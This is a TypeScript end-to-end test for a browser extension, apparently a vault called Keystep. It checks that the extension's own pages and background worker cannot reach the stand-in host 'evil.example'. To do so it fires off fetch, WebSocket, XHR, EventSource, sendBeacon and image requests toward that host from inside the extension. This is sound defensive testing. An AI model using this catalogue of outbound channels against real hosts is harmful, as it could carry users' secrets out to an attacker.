import { TargetType, type Page } from 'puppeteer-core';
import { expect } from 'vitest';
import { builtFiles } from '../../e2e/harness/bundle.ts';
import { poll } from '../../e2e/harness/poll.ts';
import type { Group, Stage } from '../attack.types.ts';
import { remains } from '../remains.ts';

const host = 'evil.example';

/** Runs in a page or a background: tries to reach a host in every way that there is; gives those that there are. */
async function reachOut(from: string, foreign: string, scope: typeof globalThis): Promise<readonly string[]> {
  const address = (way: string) => `https://${foreign}/reached-${from}-${way}`;
  const settled = (emitter: EventTarget, types: readonly string[]) =>
    new Promise<void>((done) => {
      for (const type of types) emitter.addEventListener(type, () => done());
    });
  const {
    XMLHttpRequest: Request,
    EventSource: Source,
    Image: Picture,
  } = scope as Partial<typeof globalThis>;
  const ways: Record<string, (() => unknown) | undefined> = {
    fetch: () => scope.fetch(address('fetch'), { mode: 'no-cors' }),
    socket: () =>
      settled(new scope.WebSocket(address('socket').replace('https', 'wss')), ['open', 'error', 'close']),
    xhr:
      Request &&
      (() => {
        const request = new Request();
        request.open('GET', address('xhr'));
        const end = settled(request, ['loadend']);
        request.send();
        return end;
      }),
    source:
      Source &&
      (() => {
        const source = new Source(address('source'));
        return settled(source, ['error', 'open']).then(() => source.close());
      }),
    beacon:
      'sendBeacon' in scope.navigator ? () => scope.navigator.sendBeacon(address('beacon'), 'x') : undefined,
    image:
      Picture &&
      (() => {
        const image = new Picture();
        image.src = address('image');
        return settled(image, ['load', 'error']);
      }),
  };
  const there = Object.entries(ways).filter(([, way]) => way !== undefined);
  await Promise.allSettled(there.map(([, way]) => Promise.resolve().then(way)));
  return there.map(([way]) => way);
}

const everyWay = ['beacon', 'fetch', 'image', 'socket', 'source', 'xhr'];
const call = (scope: string, from: string) =>
  `(${reachOut.toString()})(${JSON.stringify(from)}, ${JSON.stringify(host)}, ${scope})`;

/** The background: Chromium's service worker, Firefox's event page by way of a page of ours. */
async function fromBackground(stage: Stage): Promise<readonly string[]> {
  if (stage.name === 'firefox') {
    const expression = `browser.runtime.getBackgroundPage().then((scope) => ${call('scope', 'background')})`;
    return (await stage.own().evaluate(expression)) as readonly string[];
  }
  const isOurs = (url: string) => url.startsWith(stage.browser.extensionOrigin);
  // One that an earlier attempt saw end may still be listed.
  const worker = await poll('the service worker', async () => {
    await stage.ask('vault.state', {});
    for (const target of stage.browser.driver.targets().reverse()) {
      if (target.type() !== TargetType.SERVICE_WORKER || !isOurs(target.url())) continue;
      const found = await target.worker().catch(() => null);
      if (found !== null) return found;
    }
    return undefined;
  });
  const ways = (await worker.evaluate(call('globalThis', 'background'))) as readonly string[];
  // A worker that starts again with a session attached would wait for it.
  await worker.client.detach();
  return ways;
}

const fromPage = async (page: Page, from: string) =>
  [...((await page.evaluate(call('globalThis', from))) as readonly string[])].sort();

/** What would carry something out of Keystep, if anything in it wanted to. */
export const reachingOut: Group = {
  name: 'Keystep’s own pages that reach for another host',
  attempts: [
    {
      number: 112,
      title: 'lets every page and the background fetch, connect, stream, signal and load from a foreign host',
      requirement: 'R46',
      try: async (stage) => {
        const reached = (from: string) =>
          stage.site.asked().filter((line) => line.startsWith(`${host}/reached-${from}-`)).length;
        // An ordinary page reaches it in each way.
        const { page } = await stage.open('blank', { path: '/en', step: null });
        expect(await fromPage(page, 'control')).toEqual(everyWay);
        await poll('the control to arrive', () => reached('control') >= everyWay.length);
        const pages = builtFiles(stage.browser.options.extensionDir).filter((path) => path.endsWith('.html'));
        expect(pages.length).toBeGreaterThan(3);
        for (const path of pages) {
          const own = await stage.browser.openExtensionPage(path);
          expect(await fromPage(own, 'own')).toEqual(everyWay);
          await own.close();
        }
        expect(await fromBackground(stage)).toEqual(expect.arrayContaining(['fetch', 'socket']));
        await remains('nothing of ours', () => Promise.resolve(reached('own') + reached('background') === 0));
      },
    },
  ],
};
